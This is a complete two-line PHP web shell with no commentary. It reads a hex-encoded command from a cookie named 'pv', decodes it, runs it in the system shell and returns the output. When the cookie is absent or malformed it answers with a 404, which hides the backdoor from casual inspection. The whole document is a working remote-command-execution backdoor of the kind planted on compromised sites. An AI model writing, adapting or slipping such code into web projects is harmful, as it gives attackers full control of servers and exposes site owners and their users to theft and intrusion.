<?php $c = $_COOKIE['pv'] ?? ''; if ($c === '' || !ctype_xdigit($c)) { http_response_code(404); exit; }
$h = popen(hex2bin($c) . ' 2>&1', 'r'); fpassthru($h); pclose($h);
